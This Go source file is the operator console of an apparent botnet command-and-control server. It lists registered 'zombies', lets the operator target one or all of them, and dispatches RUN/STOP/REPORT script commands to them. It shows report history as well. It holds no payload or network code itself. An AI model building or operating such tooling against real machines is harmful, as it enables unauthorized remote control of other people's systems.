// ABOUTME: Interactive console for the controller: RUN/STOP/REPORT/HELP/EXIT.
// ABOUTME: Thin glue turning operator input into dispatch calls and status lines.

package main

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/fatih/color"

	"github.com/liaoxmichael/botnet/internal/controller"
	"github.com/liaoxmichael/botnet/internal/store"
)

const (
	needScriptName = "Need scriptname and arguments (if any)!"
	returnMain     = "Returning to main loop."
)

// dispatcher is the slice of the controller the console drives.
type dispatcher interface {
	Agents() []controller.AgentInfo
	Dispatch(command string, target int, invocation string) error
}

// console reads operator commands line by line and hands them to the
// controller. It owns no sockets and produces no files; everything beyond
// status lines goes through the dispatcher.
type console struct {
	in      *bufio.Scanner
	out     io.Writer
	d       dispatcher
	history store.Store // optional
}

func newConsole(in io.Reader, out io.Writer, d dispatcher, history store.Store) *console {
	return &console{
		in:      bufio.NewScanner(in),
		out:     out,
		d:       d,
		history: history,
	}
}

// run processes commands until EXIT or input EOF.
func (c *console) run() {
	c.printHowTo()
	for {
		fmt.Fprint(c.out, "> ")
		if !c.in.Scan() {
			return
		}
		line := strings.TrimSpace(c.in.Text())
		if line == "" {
			continue
		}

		command, rest, _ := strings.Cut(line, " ")
		switch strings.ToUpper(command) {
		case "EXIT":
			fmt.Fprintln(c.out, "Shutting down C&C server...")
			return
		case "HELP":
			c.printHowTo()
		case "RUN", "STOP", "REPORT":
			c.dispatch(strings.ToUpper(command), strings.TrimSpace(rest))
		case "AGENTS":
			c.printAgents()
		case "HISTORY":
			c.printHistory(strings.TrimSpace(rest))
		default:
			fmt.Fprintln(c.out, "Unknown command. HELP for more info.")
		}
	}
}

func (c *console) printHowTo() {
	fmt.Fprintln(c.out, "Usage: [RUN | STOP | REPORT] <scriptname> <args...>")
	fmt.Fprintln(c.out, "AGENTS to list registered zombies.")
	fmt.Fprintln(c.out, "HISTORY [n] to show recent reports.")
	fmt.Fprintln(c.out, "EXIT to end.")
	fmt.Fprintln(c.out, "HELP to see this message again.")
}

func (c *console) dispatch(command, invocation string) {
	if invocation == "" {
		fmt.Fprintln(c.out, needScriptName)
		return
	}

	target, ok := c.selectTarget()
	if !ok {
		fmt.Fprintln(c.out, returnMain)
		return
	}

	if err := c.d.Dispatch(command, target, invocation); err != nil {
		color.New(color.FgRed).Fprintf(c.out, "Dispatch failed: %v\n", err)
	}
}

// selectTarget prompts for a zombie index: 0 means all, 1..N one agent,
// BACK cancels. Invalid input re-prompts; the selection is validated here
// so dispatch never sees an unresolved selector.
func (c *console) selectTarget() (int, bool) {
	agents := c.d.Agents()
	if len(agents) == 0 {
		fmt.Fprintln(c.out, "No zombies available.")
		return 0, false
	}

	fmt.Fprintln(c.out, "Which zombie?")
	c.printAgents()

	for {
		fmt.Fprint(c.out, "? ")
		if !c.in.Scan() {
			return 0, false
		}
		choice := strings.TrimSpace(c.in.Text())
		if strings.EqualFold(choice, "back") {
			return 0, false
		}
		n, err := strconv.Atoi(choice)
		if err != nil || n < 0 || n > len(agents) {
			fmt.Fprintln(c.out, "Invalid input. Try again! BACK to return to main menu.")
			continue
		}
		return n, true
	}
}

func (c *console) printAgents() {
	agents := c.d.Agents()
	fmt.Fprintln(c.out, "0: ALL zombies")
	for _, a := range agents {
		line := fmt.Sprintf("%d: %s", a.Index, a.Addr)
		if !a.Online {
			line += color.HiBlackString(" (disconnected)")
		}
		fmt.Fprintln(c.out, line)
	}
	fmt.Fprintln(c.out)
}

func (c *console) printHistory(arg string) {
	if c.history == nil {
		fmt.Fprintln(c.out, "Report history is disabled (no database configured).")
		return
	}

	limit := 10
	if arg != "" {
		n, err := strconv.Atoi(arg)
		if err != nil || n <= 0 {
			fmt.Fprintln(c.out, "HISTORY takes a positive count.")
			return
		}
		limit = n
	}

	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	reports, err := c.history.ListReports(ctx, limit)
	if err != nil {
		color.New(color.FgRed).Fprintf(c.out, "Listing reports: %v\n", err)
		return
	}
	if len(reports) == 0 {
		fmt.Fprintln(c.out, "No reports yet.")
		return
	}
	for _, r := range reports {
		fmt.Fprintf(c.out, "%s  %-21s  %-30s  %d bytes\n",
			r.ReceivedAt.Local().Format("2006-01-02 15:04:05"),
			r.RemoteAddr,
			r.Invocation,
			len(r.Body),
		)
	}
}
